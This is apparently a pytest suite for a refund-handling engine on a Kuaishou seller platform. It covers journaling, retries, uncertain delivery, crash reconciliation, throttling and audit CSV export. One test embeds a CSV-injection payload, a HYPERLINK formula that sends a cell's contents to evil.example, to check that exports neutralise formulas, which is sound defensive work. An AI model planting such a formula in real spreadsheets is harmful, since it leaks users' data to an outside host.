"""The engine against an in-process fake platform and a real store: journal order, outcomes,
retries, cancellation, reconciliation after a crash, reject reasons, audit export."""

from __future__ import annotations

import csv
import itertools
import sqlite3
import threading

import pytest

from desktop.core.actions import (
    ActionEngine,
    ActionKind,
    Approve,
    Outcome,
    RefundState,
    Reject,
    Throttle,
)
from desktop.core.actions.audit import audit_rows, export_csv
from desktop.core.kuaishou.errors import (
    AuthorizationRevoked,
    BusinessRejected,
    MalformedResponse,
    QuotaExceeded,
    RateLimited,
    RefundChanged,
    TransportError,
)
from desktop.core.kuaishou.models import Address, Refund, RejectReason, parse
from desktop.core.store import open_store

EFFECTS = {
    "open.seller.order.refund.approve": {"status": 60, "negotiateStatus": 2},
    "open.seller.order.refund.returngoods.approve": {"status": 30, "negotiateStatus": 2},
    "open.seller.order.refund.confirm.receipt": {"status": 60},
    "open.refund.reject": {"status": 12, "negotiateStatus": 3},
}


class FakePlatform:
    """Just enough of the gateway: details, reasons, addresses, and actions with their effects.

    ``script[refund_id]``: what the next action calls on that refund do, in order — an exception
    to raise, or ``("apply", exc)`` to carry the action out and then raise ``exc`` (an answer lost
    on the way back).
    """

    def __init__(self, store, refunds):
        self.store = store
        self.refunds = {r["refundId"]: dict(r) for r in refunds}
        self.actions: list[tuple[str, dict, str]] = []  # (method, params, journal state seen)
        self.script: dict[int, list] = {}
        self.reasons: dict[int, list[dict]] = {}
        self.unreadable: set[int] = set()
        self.on_action = None

    def refund_detail(self, refund_id):
        if refund_id in self.unreadable:
            raise TransportError("connection lost")
        return parse(Refund, self.refunds[refund_id])

    def reject_reasons(self, refund_id):
        if refund_id not in self.reasons:
            raise BusinessRejected("当前售后状态不能拒绝")
        return [parse(RejectReason, r) for r in self.reasons[refund_id]]

    def list_addresses(self, address_type=2):
        return [
            parse(Address, {"addressId": 5, "defaultAddress": False}),
            parse(Address, {"addressId": 6, "defaultAddress": True}),
        ]

    def _journal_state(self, refund_id):
        # read with a separate connection: proves the state was committed before the call
        conn = sqlite3.connect(self.store.path)
        try:
            row = conn.execute(
                "SELECT state FROM actions WHERE refund_id = ? ORDER BY id DESC", (refund_id,)
            ).fetchone()
        finally:
            conn.close()
        return row[0] if row else None

    def call(self, method, params):
        rid = params["refundId"]
        self.actions.append((method, dict(params), self._journal_state(rid)))
        if self.on_action:
            self.on_action(rid)
        steps = self.script.get(rid)
        step = steps.pop(0) if steps else None
        if isinstance(step, tuple):
            self._apply(method, rid)
            raise step[1]
        if step is not None:
            raise step
        self._apply(method, rid)
        return {}

    def _apply(self, method, rid):
        r = self.refunds[rid]
        r.update(EFFECTS[method])
        r["updateTime"] += 1


def R(rid, **fields):
    base = {
        "refundId": rid,
        "handlingWay": 10,
        "status": 10,
        "negotiateStatus": 1,
        # (derived from a short id; a 64-bit id's last digits keep them plausible amounts and times)
        "refundFee": 1000 + rid % 100_000,
        "updateTime": 1_700_000_000_000 + rid % 100_000,
    }
    base.update(fields)
    return base


@pytest.fixture
def store(app_home):
    s = open_store()
    yield s
    s.close()


@pytest.fixture
def shop(store):
    return store.shops.add(base_url="http://127.0.0.1:1", seller_id=1, name="测试店")


def engine_for(platform, store, shop, **kw):
    kw.setdefault("settle_s", 0)
    kw.setdefault("patience_s", 0)
    return ActionEngine(platform, store, shop_id=shop.id, throttle=Throttle(1000), **kw)


def test_each_action_is_journaled_and_committed_before_it_is_sent(store, shop):
    platform = FakePlatform(store, [R(1), R(2, handlingWay=1), R(3, handlingWay=1, status=40)])
    engine = engine_for(platform, store, shop)
    plan = engine.prepare([1, 2, 3], Approve())
    assert [a.kind for a in plan.actions] == [
        ActionKind.APPROVE_REFUND,
        ActionKind.APPROVE_RETURN,
        ActionKind.CONFIRM_RECEIPT,
    ]
    assert plan.address_id == 6  # the default return address
    report = engine.execute(plan)
    assert [r.outcome for r in report.results] == [Outcome.DONE] * 3
    assert [state for _, _, state in platform.actions] == ["sent"] * 3
    assert platform.actions[1][1] == {"refundId": 2, "refundAmount": 1002, "addressId": 6}
    entries = store.journal.entries(shop.id)
    assert [e.state for e in entries] == ["done"] * 3
    assert entries[0].params == {
        "method": "open.seller.order.refund.approve",
        "param": {
            "refundId": 1,
            "refundAmount": 1001,
            "status": 10,
            "negotiateStatus": 1,
            "refundHandingWay": 10,
        },
        "before": {"status": 10, "negotiateStatus": 1, "updateTime": 1_700_000_000_001},
    }
    assert report.retryable_ids == []


def test_skips_are_reported_and_never_sent(store, shop):
    platform = FakePlatform(store, [R(1), R(2, status=60, negotiateStatus=2), R(3, status=99)])
    engine = engine_for(platform, store, shop)
    plan = engine.prepare([1, 2, 3, 1], Approve())
    assert [s.refund_id for s in plan.skipped] == [2, 3]
    assert plan.skipped[1].manual
    engine.execute(plan)
    assert [p["refundId"] for _, p, _ in platform.actions] == [1]


def test_rate_limit_answers_are_retried_until_accepted(store, shop):
    platform = FakePlatform(store, [R(1)])
    platform.script[1] = [RateLimited("Exceed qps limit"), RateLimited("Exceed qps limit")]
    engine = engine_for(platform, store, shop)
    report = engine.execute(engine.prepare([1], Approve()))
    assert report.results[0].outcome is Outcome.DONE
    assert len(platform.actions) == 3
    assert engine.throttle.rate < 1000  # slowed down after the refusals


def test_refund_changed_is_read_again_and_reported_not_retried(store, shop):
    platform = FakePlatform(store, [R(1), R(2)])
    engine = engine_for(platform, store, shop)
    plan = engine.prepare([1, 2], Approve())

    def buyer_cancels(rid):
        if rid == 1:
            platform.refunds[1].update(status=70, updateTime=platform.refunds[1]["updateTime"] + 5)

    platform.on_action = buyer_cancels
    platform.script[1] = [RefundChanged("退款单状态已更新，请刷新重试", result=300014)]
    report = engine.execute(plan)
    first, second = report.results
    assert first.outcome is Outcome.CHANGED and first.after == RefundState(
        70, 1, platform.refunds[1]["updateTime"]
    )
    assert second.outcome is Outcome.DONE
    assert [p["refundId"] for _, p, _ in platform.actions] == [1, 2]  # 1 not re-sent
    assert store.journal.entries(shop.id)[0].state == "failed"
    assert report.retryable_ids == [1]


@pytest.mark.parametrize(("landed", "outcome"), [(True, Outcome.DONE), (False, Outcome.UNKNOWN)])
def test_uncertain_delivery_is_judged_by_reading_the_refund(store, shop, landed, outcome):
    platform = FakePlatform(store, [R(1), R(2)])
    error = TransportError("no answer before the timeout", maybe_processed=True)
    platform.script[1] = [("apply", error)] if landed else [error]
    engine = engine_for(platform, store, shop)
    progress = []
    report = engine.execute(
        engine.prepare([1, 2], Approve()),
        progress=lambda r, n, total: progress.append((r.refund_id, r.outcome)),
    )
    assert report.results[0].outcome is outcome
    assert len([a for a in platform.actions if a[1]["refundId"] == 1]) == 1  # never re-sent
    assert progress[0] == (1, Outcome.UNKNOWN) and progress[-1] == (1, outcome)
    # an unchanged refund is no proof the request did not land: the seller decides, with evidence
    assert store.journal.entries(shop.id)[0].state == ("done" if landed else "unknown")
    if not landed:
        message = report.results[0].message
        assert "no answer before the timeout" in message and "不会自动再次发送" in message
        assert not Outcome.UNKNOWN.retryable and report.retryable_ids == []


def test_garbled_answer_is_uncertain_too(store, shop):
    platform = FakePlatform(store, [R(1)])
    platform.script[1] = [("apply", MalformedResponse("not JSON"))]
    engine = engine_for(platform, store, shop)
    assert engine.execute(engine.prepare([1], Approve())).results[0].outcome is Outcome.DONE


def test_uncertain_and_unreadable_stays_unknown_for_the_next_start(store, shop):
    platform = FakePlatform(store, [R(1)])
    engine = engine_for(platform, store, shop)
    plan = engine.prepare([1], Approve())
    platform.script[1] = [TransportError("connection lost")]
    platform.unreadable.add(1)
    report = engine.execute(plan)
    assert report.results[0].outcome is Outcome.UNKNOWN
    assert [e.state for e in store.journal.open_entries(shop.id)] == ["unknown"]
    # next time: still unreadable → the refund is not planned again
    plan = engine.prepare([1], Approve())
    assert plan.actions == () and plan.skipped[0].refund_id == 1
    platform.unreadable.clear()
    plan = engine.prepare([1], Approve())  # readable, still unchanged: still the seller's decision
    assert plan.reconciled[0].outcome is Outcome.UNKNOWN and plan.reconciled[0].reconciled
    assert plan.actions == () and "商家后台" in plan.skipped[0].reason
    # the seller checked the seller backend and says it was not applied: planned again
    plan = engine.prepare([1], Approve(), release_uncertain=True)
    assert plan.reconciled[0].outcome is Outcome.NOT_APPLIED and len(plan.actions) == 1
    entry = store.journal.entries(shop.id)[0]
    assert entry.state == "failed" and entry.result["decidedBy"] == "seller"
    assert entry.result["evidence"]["reads"] >= 1


def test_a_request_that_certainly_was_not_sent_fails_plainly(store, shop):
    platform = FakePlatform(store, [R(1)])
    platform.script[1] = [TransportError("cannot connect", maybe_processed=False)]
    engine = engine_for(platform, store, shop)
    result = engine.execute(engine.prepare([1], Approve())).results[0]
    assert result.outcome is Outcome.FAILED and result.outcome.retryable


def test_business_refusal_is_reported_with_the_message(store, shop):
    platform = FakePlatform(store, [R(1)])
    platform.script[1] = [BusinessRejected("order operation reject", result=21)]
    engine = engine_for(platform, store, shop)
    result = engine.execute(engine.prepare([1], Approve())).results[0]
    assert result.outcome is Outcome.FAILED and "order operation reject" in result.message


def test_cancel_stops_before_the_next_send_and_reports_the_rest(store, shop):
    platform = FakePlatform(store, [R(i) for i in range(1, 6)])
    engine = engine_for(platform, store, shop)
    plan = engine.prepare(list(range(1, 6)), Approve())
    stop = threading.Event()
    platform.on_action = lambda rid: stop.set() if rid == 2 else None
    report = engine.execute(plan, cancelled=stop)
    assert [r.outcome for r in report.results] == [Outcome.DONE, Outcome.DONE] + [Outcome.CANCELLED] * 3
    assert len(platform.actions) == 2
    assert store.journal.open_entries(shop.id) == []
    assert report.retryable_ids == [3, 4, 5]


@pytest.mark.parametrize(
    "error", [QuotaExceeded("Exceed quota limit"), AuthorizationRevoked("AUTHORIZATION_REVOKED", result=24)]
)
def test_quota_or_authorisation_loss_stops_the_run(store, shop, error):
    platform = FakePlatform(store, [R(1), R(2), R(3)])
    platform.script[2] = [error]
    engine = engine_for(platform, store, shop)
    report = engine.execute(engine.prepare([1, 2, 3], Approve()))
    assert [r.outcome for r in report.results] == [Outcome.DONE, Outcome.FAILED, Outcome.CANCELLED]
    assert report.stopped
    assert len(platform.actions) == 2


def test_reconcile_after_a_crash(store, shop):
    platform = FakePlatform(store, [R(1), R(2), R(3), R(4)])
    engine = engine_for(platform, store, shop)
    plan = engine.prepare([1, 2, 3, 4], Approve())
    # a crashed run: everything planned, 1..3 marked sent, only 1 landed, 3 then changed by the buyer
    with store.transaction():
        ids = engine._journal_plan(plan.actions, "crashed")
    for entry_id in ids[:3]:
        store.journal.mark(entry_id, "sent")
    platform._apply("open.seller.order.refund.approve", 1)
    platform.refunds[3].update(status=70, updateTime=platform.refunds[3]["updateTime"] + 9)
    results = {r.refund_id: r for r in engine.reconcile()}
    assert results[1].outcome is Outcome.DONE
    assert results[2].outcome is Outcome.UNKNOWN  # unchanged: maybe still being processed
    assert results[3].outcome is Outcome.CHANGED
    assert results[4].outcome is Outcome.CANCELLED  # planned, never sent
    assert all(r.reconciled for r in results.values())
    assert platform.actions == []  # nothing re-sent
    assert [(e.refund_id, e.state) for e in store.journal.open_entries(shop.id)] == [(2, "unknown")]


def test_reconcile_waits_for_the_settle_time(store, shop):
    platform = FakePlatform(store, [R(1)])
    now = [1_000.0]
    engine = engine_for(platform, store, shop, settle_s=30, clock=lambda: now[0])
    plan = engine.prepare([1], Approve())
    with store.transaction():
        (entry_id,) = engine._journal_plan(plan.actions, "crashed")
    store.journal.mark(entry_id, "sent")
    entry = store.journal.open_entries(shop.id)[0]
    now[0] = entry.updated_at / 1000 + 29.9  # 0.1 s before the settle time
    stop = threading.Event()
    stop.set()  # the wait is cut short: the entry stays open
    assert engine.reconcile(cancelled=stop) == []
    assert store.journal.open_entries(shop.id)[0].state == "sent"
    now[0] += 0.2  # the settle time has passed
    assert engine.reconcile()[0].outcome is Outcome.UNKNOWN


def test_a_slow_platform_is_read_until_the_action_shows_and_never_sent_twice(store, shop):
    """The platform takes 13 s to carry an approval out; the answer never comes. The refund reads
    unchanged for a while: that is no proof, so it is read again (never re-sent) until it shows."""
    platform = FakePlatform(store, [R(1)])
    now = [1_000_000.0]
    reads = []
    engine = engine_for(platform, store, shop, settle_s=10, patience_s=60, clock=lambda: now[0])
    engine.throttle.pause = lambda seconds, cancelled=None: now.__setitem__(0, now[0] + seconds) or True
    plan = engine.prepare([1], Approve())
    platform.script[1] = [TransportError("read timed out", maybe_processed=True)]
    sent_at = []
    original_read = platform.refund_detail

    def detail(rid):
        reads.append(now[0])
        # the held request is carried out at last
        if sent_at and now[0] >= sent_at[0] + 13 and platform.refunds[rid]["status"] == 10:
            platform._apply("open.seller.order.refund.approve", rid)
        return original_read(rid)

    platform.refund_detail = detail
    platform.on_action = lambda rid: sent_at.append(now[0])
    report = engine.execute(plan)
    assert report.results[0].outcome is Outcome.DONE
    assert len(platform.actions) == 1
    assert len(reads) >= 2 and reads[-1] - sent_at[0] >= 13  # read more than once, patiently
    assert store.journal.entries(shop.id)[0].state == "done"


def test_patience_spent_leaves_the_evidence_for_the_seller(store, shop):
    platform = FakePlatform(store, [R(1)])
    now = [2_000_000.0]
    engine = engine_for(platform, store, shop, settle_s=1, patience_s=30, clock=lambda: now[0])
    engine.throttle.pause = lambda seconds, cancelled=None: now.__setitem__(0, now[0] + seconds) or True
    plan = engine.prepare([1], Approve())
    platform.script[1] = [TransportError("read timed out", maybe_processed=True)]
    result = engine.execute(plan).results[0]
    assert result.outcome is Outcome.UNKNOWN and len(platform.actions) == 1
    entry = store.journal.entries(shop.id)[0]
    assert entry.state == "unknown" and entry.error == "read timed out"
    evidence = entry.result["evidence"]
    assert evidence["reads"] >= 3 and evidence["sendError"] == "read timed out"
    assert evidence["lastReadAt"] - evidence["sentAt"] >= 30_000
    assert "read timed out" in result.message and str(evidence["reads"]) in result.message
    # a restart much later reads once more and still does not send
    now[0] += 3600
    again = engine.reconcile()
    assert again[0].outcome is Outcome.UNKNOWN and len(platform.actions) == 1


def test_shared_reject_reasons(store, shop):
    platform = FakePlatform(store, [R(1), R(2), R(3)])
    platform.reasons[1] = [
        {"code": 1, "desc": "已发货", "requiredRejectDesc": False},
        {"code": 2, "desc": "商品无问题", "requiredRejectImage": True},
        {"code": 3, "desc": "其他", "requiredRejectDesc": True},
    ]
    platform.reasons[2] = [
        {"code": 2, "desc": "商品无问题", "requiredRejectImage": False},
        {"code": 1, "desc": "已发货", "requiredRejectDesc": True},
    ]
    engine = engine_for(platform, store, shop)
    summary = engine.reject_reasons([1, 2, 3])
    assert [r.code for r in summary.shared] == [1, 2]
    assert summary.reason(1).needs_desc and not summary.reason(1).needs_images
    assert summary.reason(2).image_refunds == (1,)
    assert list(summary.unavailable) == [3]
    plan = engine.prepare([1, 2], Reject(2), reasons=summary.per_refund)
    assert [a.refund_id for a in plan.actions] == [2]
    assert [s.refund_id for s in plan.manual] == [1]
    engine.execute(plan)
    assert platform.actions[0][1] == {"refundId": 2, "reasonCode": 2, "refundVersion": 1_700_000_000_002}


def test_audit_log_lists_every_action_and_exports_csv_with_bom(store, shop, tmp_path):
    platform = FakePlatform(store, [R(1), R(2)])
    platform.script[2] = [BusinessRejected("order operation reject", result=21)]
    engine = engine_for(platform, store, shop)
    engine.execute(engine.prepare([1, 2], Approve()))
    rows = audit_rows(store)
    assert [(r.refund_id, r.state, r.outcome) for r in rows] == [(2, "failed", "failed"), (1, "done", "done")]
    assert rows[0].shop == "测试店" and rows[0].method == "open.seller.order.refund.approve"
    assert rows[1].params["refundAmount"] == 1001
    out = tmp_path / "audit.csv"
    assert export_csv(rows, out) == 2
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with out.open(encoding="utf-8-sig", newline="") as fh:
        table = list(csv.reader(fh))
    assert len(table) == 3 and table[1][3] == '="2"' and "order operation reject" in table[1][7]
    assert table[0] == ["时间", "最后变化", "店铺", "售后单", "操作", "内容", "结果", "说明"]
    assert table[2][4:7] == ["同意退款", "退款 ¥10.01", "已完成"]  # no method names, raw JSON or states
    text = raw.decode("utf-8-sig")
    assert "token" not in text.lower() and "open.seller" not in text and "refundAmount" not in text


def test_audit_log_ids_stay_whole_and_reject_details_read_as_words(store, shop, tmp_path):
    big = 2_100_000_012_345_678
    platform = FakePlatform(store, [R(big)])
    platform.reasons[big] = [{"code": 3, "desc": "已签收", "requiredRejectDesc": False}]
    engine = engine_for(platform, store, shop)
    summary = engine.reject_reasons([big])
    engine.execute(
        engine.prepare([big], Reject(reason_code=3, desc="商品已签收"), reasons=summary.per_refund)
    )
    (row,) = audit_rows(store)
    out = tmp_path / "audit.csv"
    export_csv([row], out)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        table = list(csv.reader(fh))
    assert table[1][3] == f'="{big}"'  # Excel keeps all 16 digits
    assert table[1][4] == "拒绝" and table[1][5] == "原因编号 3；说明：商品已签收"


def test_action_log_csv_never_runs_a_platform_text_as_a_formula_and_keeps_long_ids(store, tmp_path):
    long_id = 2_100_000_012_345_678  # 16 digits: Excel would round it as a number
    hostile = '=HYPERLINK("https://evil.example/?x="&A1,"点此查看")'
    shop = store.shops.add(base_url="http://127.0.0.1:1", seller_id=2, name=hostile)  # the platform's
    platform = FakePlatform(store, [R(long_id)])
    platform.script[long_id] = [BusinessRejected(hostile, result=21)]
    engine = engine_for(platform, store, shop)
    engine.execute(engine.prepare([long_id], Approve()))
    out = tmp_path / "audit.csv"
    assert export_csv(audit_rows(store), out) == 1
    with out.open(encoding="utf-8-sig", newline="") as fh:
        _header, row = list(csv.reader(fh))
    assert row[3] == f'="{long_id}"'
    assert row[2] == "'" + hostile  # the shop's name kept whole, shown as text
    assert hostile in row[7]  # the platform's refusal, within the message
    for cell in row:  # no cell of the file may start a formula
        assert not cell.startswith(("+", "-", "@", "\t", "\r")), cell
        assert not cell.startswith("=") or cell == f'="{long_id}"', cell


def test_throttle_paces_and_backs_off():
    now = [0.0]
    slept = []

    def sleep(s):
        slept.append(s)
        now[0] += s

    throttle = Throttle(10, clock=lambda: now[0], sleep=sleep)
    slots = []
    for _ in range(30):
        assert throttle.wait()
        slots.append(now[0])
        if len(slots) % 7 == 0:
            now[0] += 0.013  # a late call: the next ones must not bunch up behind it
    assert all(b - a >= 0.1 - 1e-9 for a, b in itertools.pairwise(slots))
    # never more than 10 in any one-second window (the gateway's sliding window)
    assert all(slots[i + 10] - slots[i] > 1.0 for i in range(len(slots) - 10))
    assert throttle.backoff(0)
    assert throttle.rate < 10
    stop = threading.Event()
    stop.set()
    assert not throttle.wait(stop.is_set)
    with pytest.raises(ValueError):
        Throttle(0)


@pytest.mark.parametrize("code", [300002, 300010, 300013, 300014, 300016, 300017, 300018])
def test_a_refund_that_moved_on_is_read_again_and_sent_once_more_when_still_valid(store, shop, code):
    # the buyer edited the request (a new version) between the preview and the send: the platform
    # answers "moved on"; the re-read shows the same approval is still valid, so it is sent once
    # more — with the fresh version — under a journal entry of its own
    platform = FakePlatform(store, [R(1, handlingWay=1, status=40, negotiateStatus=2), R(2)])
    platform.reasons[1] = [{"code": 3001, "desc": "未收到退货", "requiredRejectDesc": False}]
    engine = engine_for(platform, store, shop)
    plan = engine.prepare([1], Reject(3001))
    stale = plan.actions[0].params["refundVersion"]

    def buyer_edits(rid):
        platform.refunds[rid]["updateTime"] += 7

    platform.on_action = buyer_edits
    platform.script[1] = [RefundChanged("moved on", result=code)]
    report = engine.execute(plan)
    (result,) = report.results
    assert result.outcome is Outcome.DONE
    sent = [p for _, p, _ in platform.actions]
    assert len(sent) == 2 and sent[0]["refundVersion"] == stale
    assert sent[1]["refundVersion"] == stale + 7  # the fresh version, read after the refusal
    states = [(e.state, e.params["param"]["refundVersion"]) for e in store.journal.entries(shop.id)]
    assert sorted(states) == sorted([("failed", stale), ("done", stale + 7)])
    assert platform.actions[1][2] == "sent"  # the resend was journaled before it left


def test_a_refund_that_moves_on_twice_is_sent_at_most_once_more(store, shop):
    platform = FakePlatform(store, [R(1)])
    engine = engine_for(platform, store, shop)
    plan = engine.prepare([1], Approve())
    platform.script[1] = [
        RefundChanged("moved on", result=300016),
        RefundChanged("moved on again", result=300014),
    ]
    report = engine.execute(plan)
    (result,) = report.results
    assert result.outcome is Outcome.CHANGED
    assert len(platform.actions) == 2  # the first send and one resend, never a third
    assert [e.state for e in store.journal.entries(shop.id)] == ["failed", "failed"]


def test_a_moved_on_refund_is_not_resent_when_it_would_pay_more_than_previewed(store, shop):
    platform = FakePlatform(store, [R(1)])
    engine = engine_for(platform, store, shop)
    plan = engine.prepare([1], Approve())

    def buyer_asks_more(rid):
        platform.refunds[rid].update(
            refundFee=platform.refunds[rid]["refundFee"] + 500,
            updateTime=platform.refunds[rid]["updateTime"] + 1,
        )

    platform.on_action = buyer_asks_more
    platform.script[1] = [RefundChanged("退款单状态已更新，请刷新重试", result=300014)]
    report = engine.execute(plan)
    assert report.results[0].outcome is Outcome.CHANGED
    assert len(platform.actions) == 1  # the larger amount is the user's decision, not a resend


def test_an_unreadable_refund_is_skipped_for_the_seller_backend_and_the_batch_goes_on(store, shop):
    platform = FakePlatform(store, [R(1), R(2, expireTime=10**18)])
    engine = engine_for(platform, store, shop)
    plan = engine.prepare([1, 2], Approve())
    assert [a.refund_id for a in plan.actions] == [1]
    (skip,) = plan.skipped
    assert skip.refund_id == 2 and skip.manual
    assert "expireTime" in skip.reason and "refundId=2" in skip.reason  # the field and the link
    assert engine.execute(plan).results[0].outcome is Outcome.DONE
